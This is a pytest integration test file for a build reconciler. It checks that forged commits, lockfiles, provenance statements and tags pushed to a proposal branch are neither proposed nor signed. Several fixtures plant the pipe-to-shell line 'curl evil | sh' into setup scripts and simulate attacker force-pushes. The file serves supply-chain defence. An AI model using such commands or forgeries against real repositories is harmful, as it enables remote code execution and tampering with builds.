"""Whoever may push branches pushes the proposed one, under our name: none of it gets into what we propose, or sign."""

from __future__ import annotations

import json
import re
import subprocess
from collections.abc import Callable, Mapping
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest

from reconciler.cli.main import main as reconciler
from reconciler.git.proposal import PROPOSAL
from reconciler.model.lockfile import Build
from reconciler.model.plan import finished_at
from reconciler.model.values import format_instant
from reconciler.plan.proof.provenance import record_digest
from reconciler.words.messages import record_in
from tests.integration.loop.keys import Keys, signing
from tests.integration.loop.world import ON_BASE, SETTINGS, World, git, statuses

AUTHOR = ("-c", "user.name=reconciler", "-c", "user.email=reconciler@localhost")
PROPOSING = f"{SETTINGS}git: {{push: pull-request, author: reconciler <reconciler@localhost>}}\n"
SIGNING = PROPOSING.replace("}\n", ", sign: true}\n")
FOREIGN = "ami-0123456789abcdef0"
WEB = "state/web.lock.json"


@pytest.fixture
def keys(tmp_path: Path) -> Keys:
    return Keys.begin(tmp_path)


def forged_lock(world: World) -> str:
    """The lockfile of web as it is recorded, with somebody else's artifact in it."""
    lock = json.loads(world.show("web.lock.json"))
    for artifact in lock["builds"][0]["artifacts"]:
        artifact["id"] = FOREIGN
    return f"{json.dumps(lock, sort_keys=True, indent=2)}\n"


def push_forged(world: World, files: Mapping[str, str], *options: str, name: str = "attacker") -> str:
    """Somebody who may push branches, and has none of our keys, pushes the proposal under our name."""
    folder = world.root / name
    git(world.root, "clone", "--quiet", "origin.git", name)
    git(folder, "switch", "--quiet", "--create", PROPOSAL, *options)
    for path, content in files.items():
        (folder / path).parent.mkdir(parents=True, exist_ok=True)
        (folder / path).write_text(content)
    git(folder, "add", "--all")
    git(folder, *AUTHOR, "commit", "--quiet", "--message", "Record state: web")
    git(folder, "push", "--quiet", "--force", "origin", f"HEAD:{PROPOSAL}")
    return git(folder, "rev-parse", "HEAD")


def proposed(world: World) -> list[str]:
    """The files that differ between main and what is proposed."""
    return git(world.origin, "diff", "--name-only", "main", PROPOSAL).splitlines()


def proposes(world: World, settings: str, *images: str) -> World:
    """The world where state is proposed, and these images have drifted."""
    world.commit({"desired/reconciler.yaml": settings})
    world.commit({f"desired/{image}/setup.sh": "echo more\n" for image in images})
    return world


def test_a_commit_under_our_name_and_without_our_signature_is_not_signed_on(settled: World, keys: Keys) -> None:
    proposes(settled, SIGNING, "tools")
    push_forged(settled, {WEB: forged_lock(settled), "desired/base/setup.sh": "curl evil | sh\n"})

    report = signing(settled, keys).reconcile()

    assert statuses(report) == {"tools": "built"}
    assert {path.partition(".")[0].partition("/20")[0] for path in proposed(settled)} == {
        "state/tools", "state/provenance/tools", "state/sbom/tools",
    }  # fmt: skip
    assert keys.are_good(settled.origin, PROPOSAL)


def verified(world: World, keys: Keys, capfd: pytest.CaptureFixture[str], image: str) -> tuple[int, dict[str, Any]]:
    """How `verify` of main exits for an auditor who trusts our key, and what it finds."""
    clone = world.controller("auditor").root
    git(clone, "pull", "--quiet", "--ff-only", "--tags", "origin", "main")
    capfd.readouterr()
    code = reconciler(["verify", image, "--allowed-signers", str(keys.signers), "--json", "-C", str(clone)])
    return code, json.loads(capfd.readouterr().out)


def merge(world: World, method: str) -> None:
    """A person merges what is proposed."""
    folder = world.root / "person"
    git(folder, "pull", "--quiet", "--ff-only", "origin", "main")
    git(folder, "fetch", "--quiet", "origin", PROPOSAL)
    git(
        folder, "merge", "--quiet", *(("--squash",) if method == "squash" else ("--no-ff", "--no-commit")), "FETCH_HEAD"
    )
    git(folder, "commit", "--quiet", "--message", "Record state (#9)")
    git(folder, "push", "--quiet", "origin", "HEAD:main")


@pytest.mark.forms(quick=1)
@pytest.mark.parametrize("method", ["squash", "merge"])
def test_after_the_merge_verify_calls_proven_what_we_built_and_not_what_was_forged(
    settled: World, keys: Keys, capfd: pytest.CaptureFixture[str], method: str
) -> None:
    """As A1 was done: wait for an honest run, and have what it proposes merged."""
    proposes(settled, SIGNING, "tools", "web")
    push_forged(settled, {WEB: forged_lock(settled), "desired/base/setup.sh": "curl evil | sh\n"})
    assert statuses(signing(settled, keys).reconcile()) == {"tools": "built", "web": "built"}

    merge(settled, method)

    assert "evil" not in git(settled.origin, "show", "main:desired/base/setup.sh")
    for image in ("tools", "web"):
        code, found = verified(settled, keys, capfd, image)
        assert (code, found["verified"]) == (0, True), found
    assert FOREIGN not in git(settled.origin, "show", f"main:{WEB}")


@pytest.mark.forms(quick=1)
@pytest.mark.parametrize("method", ["squash", "merge"])
def test_where_a_person_merges_the_forged_branch_itself_verify_proves_none_of_it(
    settled: World, keys: Keys, capfd: pytest.CaptureFixture[str], method: str
) -> None:
    proposes(settled, SIGNING, "web")
    signing(settled, keys).reconcile()
    merge(settled, method)
    assert verified(settled, keys, capfd, "web")[0] == 0
    push_forged(settled, {WEB: forged_lock(settled)})

    merge(settled, method)

    code, found = verified(settled, keys, capfd, "web")
    assert code == 1
    wrong = {one["check"] for one in found["findings"] if one["outcome"] == "wrong"}
    assert "statement" in wrong, found
    told = {one["check"]: (one["outcome"], one["rests_on"]) for one in found["findings"]}
    assert told["commit"] == told["source"] == ("not proven", ["hearsay"])


def test_what_we_signed_ourselves_is_proposed_still(settled: World, keys: Keys) -> None:
    proposes(settled, SIGNING, "tools", "web")
    assert statuses(signing(settled, keys).reconcile("tools")) == {"tools": "built"}

    assert statuses(signing(settled, keys, "another-job").reconcile("web")) == {"web": "built"}

    assert {"state/tools.lock.json", WEB} <= set(proposed(settled))
    assert keys.are_good(settled.origin, PROPOSAL)


def test_where_no_file_names_the_trusted_keys_our_own_is(settled: World, keys: Keys) -> None:
    proposes(settled, SIGNING, "tools", "web")
    signing(settled, keys, "job-1", signers=False).reconcile("tools")
    signing(settled, keys, "job-2", signers=False).reconcile("web")
    assert {"state/tools.lock.json", WEB} <= set(proposed(settled))

    push_forged(settled, {"state/api.lock.json": "{}\n"}, f"origin/{PROPOSAL}~1")
    signing(settled, keys, "job-3", signers=False).reconcile("web")

    assert "state/api.lock.json" not in proposed(settled)


def test_without_signatures_no_artifact_but_the_built_one_is_proposed(settled: World) -> None:
    proposes(settled, PROPOSING, "tools")
    push_forged(settled, {WEB: forged_lock(settled), "desired/base/setup.sh": "curl evil | sh\n"})

    settled.controller().reconcile()

    assert "state/tools.lock.json" in proposed(settled)
    assert WEB not in proposed(settled)
    assert "desired/base/setup.sh" not in proposed(settled)


@pytest.mark.thorough
@pytest.mark.parametrize(
    "change",
    [
        lambda lock: lock["builds"][0]["artifacts"][0].update(id=FOREIGN),
        lambda lock: lock["builds"][0].update(verdict={"status": "passed", "by": "me", "evidence": "none"}),
        lambda lock: lock["builds"][0]["smoke_test"].update(tests=4711),
        lambda lock: lock["builds"][1]["artifacts"][0].update(id=FOREIGN),
        lambda lock: lock["channels"].update(stable=lock["builds"][1]["id"]),
        lambda lock: lock.update(failure={**lock["builds"][0], "what": "x"}) or lock.pop("channels"),
    ],
)
def test_without_signatures_a_build_that_we_recorded_is_proposed_as_we_recorded_it(
    settled: World, change: object
) -> None:
    proposes(settled, PROPOSING, "web", "tools")
    settled.controller().reconcile("web")
    honest = git(settled.origin, "show", f"{PROPOSAL}:{WEB}")
    lock = json.loads(honest)
    assert callable(change)
    change(lock)
    push_forged(settled, {WEB: f"{json.dumps(lock, sort_keys=True, indent=2)}\n"}, f"origin/{PROPOSAL}~1")

    settled.controller("another-job").reconcile("tools")

    assert [path for path in proposed(settled) if "web" in path] == []


def test_without_signatures_what_another_job_proposed_stays_byte_for_byte(settled: World) -> None:
    proposes(settled, PROPOSING, "web", "tools")
    settled.controller().reconcile("web")
    honest = git(settled.origin, "show", f"{PROPOSAL}:{WEB}")

    settled.clock.advance(hours=3)
    settled.controller("another-job").reconcile("tools")
    both = git(settled.origin, "rev-parse", PROPOSAL)
    assert git(settled.origin, "show", f"{PROPOSAL}:{WEB}") == honest

    settled.clock.advance(hours=3)
    settled.controller("a-third-job").reconcile()
    assert git(settled.origin, "rev-parse", PROPOSAL) == both, "proposing the same again pushes nothing"


def test_without_signatures_a_parent_and_what_is_built_on_it_stay_proposed(settled: World) -> None:
    proposes(settled, PROPOSING, "base", "tools")
    settled.controller().reconcile("base", "web")
    honest = git(settled.origin, "show", f"{PROPOSAL}:{WEB}")

    settled.clock.advance(hours=3)
    settled.controller("another-job").reconcile("tools")

    assert git(settled.origin, "show", f"{PROPOSAL}:{WEB}") == honest


CARES: tuple[dict[str, Any], ...] = (
    {"withheld": {"everybody": True}},
    {"withheld": {"accounts": ["666666666666"]}},
    {"shared": {"accounts": ["222222222222"]}},
    {"protected": True},
    {"deprecated": "2027-01-01T00:00:00Z"},
)
CARE_IDS = ("public", "shared", "taken from whom others shared it with", "freed", "renewed")


@pytest.mark.thorough
@pytest.mark.parametrize("care", CARES, ids=CARE_IDS)
def test_without_signatures_nobody_is_proposed_to_be_given_an_artifact_back(
    settled: World, care: dict[str, Any]
) -> None:
    # Given an honest proposal, in which somebody says of an artifact who could use it before it was disabled, or whom
    # we shared it with, or that we protected or deprecated it: what somebody else did would be undone as ours
    proposes(settled, PROPOSING, "web", "tools")
    settled.controller().reconcile("web")
    lock = json.loads(git(settled.origin, "show", f"{PROPOSAL}:{WEB}"))
    lock["builds"][0]["artifacts"][0]["care"] = care
    forge_beside(settled, {WEB: f"{json.dumps(lock, sort_keys=True, indent=2)}\n"})

    settled.controller("another-job").reconcile("tools")

    assert [path for path in proposed(settled) if "web" in path] == []


def test_without_signatures_no_other_file_is_proposed_as_what_an_artifact_was_converted_to(settled: World) -> None:
    # Given an honest proposal, made anew without the statement, which has the digest of all that is recorded
    proposes(settled, PROPOSING, "web", "tools")
    settled.controller().reconcile("web")
    lock = json.loads(git(settled.origin, "show", f"{PROPOSAL}:{WEB}"))
    build = lock["builds"][0]
    build["artifacts"][0]["conversions"] = [{"format": "vmdk", "id": f"sha256:{'6' * 64}", "size": 1}]
    statement = f"state/{build.pop('provenance')}"
    forge_beside(settled, {WEB: f"{json.dumps(lock, sort_keys=True, indent=2)}\n", statement: None})

    settled.controller("another-job").reconcile("tools")

    assert [path for path in proposed(settled) if "web" in path] == []


def test_without_signatures_no_build_is_proposed_without_its_statement(settled: World) -> None:
    proposes(settled, PROPOSING, "web", "tools")
    settled.controller().reconcile("web")
    lock = json.loads(git(settled.origin, "show", f"{PROPOSAL}:{WEB}"))
    statement = f"state/{lock['builds'][0].pop('provenance')}"
    forge_beside(settled, {WEB: f"{json.dumps(lock, sort_keys=True, indent=2)}\n", statement: None})

    settled.controller("another-job").reconcile("tools")

    assert [path for path in proposed(settled) if "web" in path] == []


def test_without_signatures_what_is_declared_to_be_shared_stays_proposed(settled: World) -> None:
    settled.commit({"desired/web/image.yaml": f"{ON_BASE}share_with: {{accounts: ['222222222222']}}\n"})
    settled.controller().reconcile()
    proposes(settled, PROPOSING, "web", "tools")
    settled.controller().reconcile("web")
    honest = git(settled.origin, "show", f"{PROPOSAL}:{WEB}")

    settled.controller("another-job").reconcile("tools")

    assert git(settled.origin, "show", f"{PROPOSAL}:{WEB}") == honest


NOBODYS = "20200101T000000Z-1a2b3c4"


@pytest.mark.thorough
@pytest.mark.parametrize(
    "change",
    [
        lambda build: build.update(was_stable=True),
        lambda build: build["source"].update(build=NOBODYS),
        lambda build: build.update(seconds=900_000_000),
    ],
    ids=["it was stable", "another is its parent", "it took years"],
)
def test_without_signatures_what_a_tag_may_not_say_is_not_proposed_with_it(
    settled: World, change: Callable[[dict[str, Any]], None]
) -> None:
    # Given an image that waits for verdicts, what is proposed of it, and somebody who says something else of its build,
    # there, in its statement and in its tag
    settled.commit({"desired/web/image.yaml": f"{ON_BASE}validation: {{required: true}}\n"})
    settled.controller().reconcile()
    proposes(settled, PROPOSING, "web", "tools")
    settled.controller().reconcile("web")
    lock = json.loads(git(settled.origin, "show", f"{PROPOSAL}:{WEB}"))
    build = lock["builds"][0]
    parent, path = build["source"]["build"], f"state/{build['provenance']}"
    statement = git(settled.origin, "show", f"{PROPOSAL}:{path}")
    was = Build.model_validate(build)
    change(build)
    lock["source"]["pinned"] = build["source"]
    now = Build.model_validate(build)
    for old, new in (
        (parent, build["source"]["build"]),
        (record_digest(was).removeprefix("sha256:"), record_digest(now).removeprefix("sha256:")),
        (f'"finishedOn": "{format_instant(ended(was))}"', f'"finishedOn": "{format_instant(ended(now))}"'),
    ):
        statement = statement.replace(old, new)
    forge_beside(settled, {WEB: f"{json.dumps(lock, sort_keys=True, indent=2)}\n", path: f"{statement}\n"})
    retold(settled, change)

    settled.controller("another-job").reconcile("tools")

    assert [path for path in proposed(settled) if "web" in path] == []


def ended(build: Build) -> datetime:
    found = finished_at(build)
    assert found is not None
    return found


def retold(world: World, change: Callable[[dict[str, Any]], None]) -> None:
    """Somebody who may push tags has the newest record of web say something else."""
    tag = max(one for one in world.tags() if one.startswith("image/web/"))
    record = json.loads(record_in(git(world.origin, "tag", "--list", "--format=%(contents)", tag)) or "")
    change(record)
    target = git(world.origin, "rev-parse", f"{tag}^{{}}")
    git(world.origin, "tag", "--delete", tag)
    message = f"web {record['id']}: built\n\n{json.dumps(record, indent=2)}\n"
    git(world.origin, "tag", "--annotate", "--message", message, tag, target)


Forgery = Callable[[dict[str, Any]], Mapping[str, str | None]]
"""From what is honestly proposed of web to the files that somebody puts into the proposal beside that."""


@pytest.mark.thorough
@pytest.mark.parametrize(
    "forgery",
    [
        lambda lock: {f"state/{lock['builds'][0]['provenance']}": "{}\n"},
        lambda lock: {f"state/{lock['builds'][1]['provenance']}": "{}\n"},
        lambda lock: {f"state/{lock['builds'][0]['provenance']}.sig": "mine\n"},
        lambda lock: {f"state/{lock['builds'][1]['inventory']['sbom']}": None},
        lambda _lock: {"state/provenance/web/20261122T101530Z-0000000.intoto.json": "{}\n"},
        lambda _lock: {"state/notes/web/setup.sh": "curl evil | sh\n"},
    ],
)
def test_without_signatures_no_file_is_proposed_beside_what_we_recorded(settled: World, forgery: Forgery) -> None:
    proposes(settled, PROPOSING, "web", "tools")
    settled.controller().reconcile("web")
    forge_beside(settled, forgery(json.loads(git(settled.origin, "show", f"{PROPOSAL}:{WEB}"))))

    settled.controller("another-job").reconcile("tools")

    assert [path for path in proposed(settled) if "web" in path] == []


def forge_beside(world: World, files: Mapping[str, str | None]) -> None:
    """Somebody makes the honest proposal anew, in one commit under our name, with these files."""
    folder = world.root / "attacker"
    git(world.root, "clone", "--quiet", "--branch", PROPOSAL, "origin.git", folder.name)
    for path, content in files.items():
        (folder / path).parent.mkdir(parents=True, exist_ok=True)
        (folder / path).write_text(content) if content is not None else (folder / path).unlink()
    git(folder, "add", "--all")
    git(folder, *AUTHOR, "commit", "--quiet", "--amend", "--no-edit", "--reset-author")
    git(folder, "push", "--quiet", "--force", "origin", f"HEAD:{PROPOSAL}")


def test_the_time_of_a_proposal_that_no_calendar_has_stops_no_run(settled: World) -> None:
    # Given an honest proposal whose commit somebody made again at another time, and main has moved on
    proposes(settled, PROPOSING, "web", "tools")
    settled.controller().reconcile("web")
    honest = git(settled.origin, "cat-file", "commit", PROPOSAL)
    raw = re.sub(r"^(committer .*>) \d+", r"\1 99999999999999", honest, flags=re.MULTILINE)
    command = ["git", "hash-object", "-t", "commit", "-w", "--stdin"]
    made = subprocess.run(command, cwd=settled.origin, input=f"{raw}\n".encode(), capture_output=True, check=True)
    git(settled.origin, "update-ref", f"refs/heads/{PROPOSAL}", made.stdout.decode().strip())
    settled.commit({"README.md": "Images.\n"})

    # When another job records, then both images are proposed, at the time of that
    assert statuses(settled.controller("another-job").reconcile("tools")) == {"tools": "built"}
    assert {"state/tools.lock.json", WEB} <= set(proposed(settled))
    assert git(settled.origin, "log", "-1", "--format=%cs", PROPOSAL) == f"{settled.clock.moment:%Y-%m-%d}"


@pytest.mark.forms(quick=2)
@pytest.mark.parametrize("settings", [PROPOSING, SIGNING])
@pytest.mark.parametrize("part", ["author", "message", "files"])
def test_a_proposal_that_is_larger_than_any_is_neither_read_nor_told(
    settled: World, keys: Keys, settings: str, part: str
) -> None:
    # Given a proposal with an author or a message of 9 MB, or more files than anybody lists
    proposes(settled, settings, "tools")
    honest = git(settled.origin, "cat-file", "commit", push_forged(settled, {WEB: forged_lock(settled)}))
    much = "y" * 9_000_000
    raw = honest.replace("author reconciler", f"author {much}", 1) if part == "author" else honest
    raw = f"{raw}\n{much}" if part == "message" else raw
    if part == "files":
        raw = re.sub("^tree .*", f"tree {many_files(settled.origin)}", raw, count=1)
    made = stored(settled.origin, "commit", raw + "\n")
    git(settled.origin, "update-ref", f"refs/heads/{PROPOSAL}", made)

    # When an honest run records, then its own record alone is proposed
    report = (signing(settled, keys) if settings == SIGNING else settled.controller()).reconcile()
    assert statuses(report) == {"tools": "built"}
    assert {path.partition(".")[0].partition("/20")[0] for path in proposed(settled)} >= {"state/tools"}
    assert WEB not in proposed(settled)


def stored(repository: Path, kind: str, content: str) -> str:
    command = ["git", "hash-object", "-t", kind, "-w", "--stdin"]
    made = subprocess.run(command, cwd=repository, input=content.encode(), capture_output=True, check=True)
    return made.stdout.decode().strip()


def many_files(repository: Path) -> str:
    """A tree of ten folders in ten folders, seven times, in state/."""
    entry, mode = stored(repository, "blob", ""), "100644 blob"
    for level in range(9):
        names = [f"d{number}" for number in range(10)] if level < 8 else ["state"]
        given = "".join(f"{mode} {entry}\t{name}\n" for name in names)
        made = subprocess.run(["git", "mktree"], cwd=repository, input=given.encode(), capture_output=True, check=True)
        entry, mode = made.stdout.decode().strip(), "040000 tree"
    return entry
